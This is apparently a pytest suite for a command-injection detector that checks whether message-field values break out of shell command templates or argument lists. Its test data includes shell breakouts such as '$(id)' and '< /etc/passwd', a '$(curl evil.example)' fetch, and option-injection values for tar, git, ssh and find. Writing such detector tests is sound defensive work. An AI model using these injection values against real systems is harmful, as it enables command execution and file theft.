"""Processes: command lines as the shell reads them, and argument lists."""

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from remit_guard.core.source import Field
from remit_guard.sinks import process, shell_tokens
from remit_guard.sinks.provenance import Provenance


def judge(command, *values, shell=True):
    fields = [Field(f"Records[0].body→f{number}", value, "sqs", 0) for number, value in enumerate(values)]
    return process.inspect(command, Provenance(fields), shell=shell)


PLACES = [
    "convert {} -resize 20 /tmp/out.png",
    "convert '{}' out.png",
    'grep "{}" app.log | wc -l',
    "cd /tmp && ./run {} &",
]
BREAKOUTS = {
    0: [
        "a.png; id",
        "a.png|sh",
        "$(id)",
        "`id`",
        "a && id",
        "a || id",
        "a\nid",
        "$HOME",
        "${IFS}",
        "> /tmp/x",
        "< /etc/passwd",
        "a b",
        "*",
        "/???/c?t",
        "{cat,/etc/passwd}",
        "a & id",
        "a;id",
        "'a' 'b'",
        "a\\\nb;id",
        "$((1+1))",
        "a #",
    ],
    1: ["'; id; '", "a' 'b", "x'$(id)'", "'|sh #"],
    2: ["$(id)", "`id`", '"; id; "', "${PATH}", "$USER", 'a" "b'],
    3: ["x; reboot", "$(curl evil.example)", "x\nreboot"],
}


@pytest.mark.parametrize(
    ("place", "value"), [(place, value) for place, values in BREAKOUTS.items() for value in values]
)
def test_a_value_that_leaves_its_word_is_an_injection(place, value):
    assert judge(PLACES[place].format(value), value) is not None


@pytest.mark.parametrize(
    "value", [value for values in BREAKOUTS.values() for value in values] + ["O'Brien", "a'b\"c", "'", "''", '"', "\\"]
)
@pytest.mark.parametrize("template", ["convert {} out.png", "echo {} >> /tmp/log", "grep -- {} app.log | wc -l"])
def test_a_quoted_value_is_harmless(template, value):
    assert judge(template.format(shlex.quote(value)), value) is None


@pytest.mark.parametrize(
    "value", ["a.png", "dir/a.png", "50%", "k=v", "a:b", "a@b.example", "ünïcode", "2026-11-22", "a,b", "+49-30-1234"]
)
@pytest.mark.parametrize("place", range(4))
def test_a_plain_word_is_harmless(place, value):
    assert judge(PLACES[place].format(value), value) is None


@pytest.mark.parametrize("value", ["a; id", "a | b", "it's", "x && y", "<b>", "(a)", "#tag", "*.png"])
def test_text_inside_double_quotes_is_harmless(value):
    assert judge(PLACES[2].format(value), value) is None


@pytest.mark.parametrize("value", ["convert", "out.png", "/tmp", ";", "|", "'", "&&", "--", " "])
def test_a_value_equal_to_a_piece_of_the_command_is_harmless(value):
    assert judge("cd /tmp && convert 'a b.png' -resize 20 /tmp/out.png; cat /tmp/log | wc -l", value) is None


@pytest.mark.parametrize("shell", ["sh", "/bin/bash", "/usr/bin/zsh"])
def test_a_shell_in_an_argument_list_is_read_as_a_shell(shell):
    assert judge([shell, "-c", "ls a; id"], "a; id", shell=False) is not None
    assert judge(["env", "A=1", shell, "-ec", "ls a; id"], "a; id", shell=False) is not None
    assert judge([shell, "-c", 'ls "$1"', "x", "a; id"], "a; id", shell=False) is None


def test_an_argument_list_without_a_shell_has_nothing_to_break():
    assert judge(["convert", "a; id", "$(id)", "out.png"], "a; id", "$(id)", shell=False) is None


@pytest.mark.parametrize(
    ("command", "value"),
    [
        (["tar", "xf", "a.tar", "--to-command=sh"], "--to-command=sh"),
        (["git", "clone", "--upload-pack=touch /tmp/x", "repo"], "--upload-pack=touch /tmp/x"),
        (["curl", "-o/var/task/x.py"], "-o/var/task/x.py"),
        (["ssh", "-oProxyCommand=id", "host"], "-oProxyCommand=id"),
        (["find", "/tmp", "-exec", "id"], "-exec"),
    ],
)
def test_a_value_taken_for_an_option_is_an_injection(command, value):
    assert judge(command, value, shell=False) is not None
    assert judge(" ".join(command), value) is not None
    assert judge([command[0], "--", *command[1:]], value, shell=False) is None


def test_a_number_below_zero_is_no_option():
    assert judge(["convert", "-12", "x"], "-12", shell=False) is None


def test_the_program_itself():
    assert judge(["/tmp/upload/x", "y"], "/tmp/upload/x", shell=False) is not None
    assert judge(["git", "log"], "git", shell=False) is None


def test_code_handed_to_an_interpreter():
    assert judge(["python3", "-c", "print('x');import os"], "x');import os", shell=False) is not None
    assert judge(["python3", "-c", "print('hello')"], "hello", shell=False) is None


def test_the_answer_counts_commands():
    found = judge("convert a.png; id out.png", "a.png; id")
    assert found is not None
    assert found.structure == "2 commands, 1 expected"


@given(st.text(max_size=60), st.text(max_size=60), st.booleans())
def test_never_raises(command, value, shell):
    judge(command, value, shell=shell)
    judge([command, value], value, shell=shell)


@given(st.text(alphabet="'\"`\\$(){};|& a\n*#", max_size=50))
def test_segments_cover_the_command(command):
    position = 0
    for _, start, end, _ in shell_tokens.segments(command):
        assert start <= end <= len(command)
        assert start <= position
        position = max(position, end)
    assert position == len(command)


@given(st.text(alphabet=st.characters(exclude_characters="\x00", exclude_categories=["Cs"]), min_size=1, max_size=40))
def test_what_shlex_quotes_is_harmless(value):
    assert judge(f"printf %s {shlex.quote(value)}", value) is None


@pytest.mark.parametrize("piece", ["'", '"', "$(", "`", "${", "(", ";", "a ", "\\", "*", "{,", "'\"", "$(`"])
def test_long_commands(piece):
    value = piece * (12000 // len(piece))
    assert len(shell_tokens.segments("ls " + value)) <= len(value) + 10
    judge("ls " + value, value)


def test_too_many_places_to_judge_are_refused():
    value = "x;" * 200
    found = process.inspect(
        "echo 'x" + "' '".join(["x;x"] * 300) + "'; x;id -u",
        Provenance(
            [
                Field("body", ";", "sqs"),
                Field("b", "x;id -u", "sqs"),
                *[Field(f"f{n}", q, "sqs") for n, q in enumerate(("'\"'", "' '", ";x", "x;x' '"))],
            ]
        ),
        shell=True,
    )
    assert found is not None
    assert (
        process.inspect("echo " + shlex.quote("'" * 140), Provenance([Field("body", "'" * 140, "sqs")]), shell=True)
        is None
    )
    assert judge("echo " + value, value) is not None
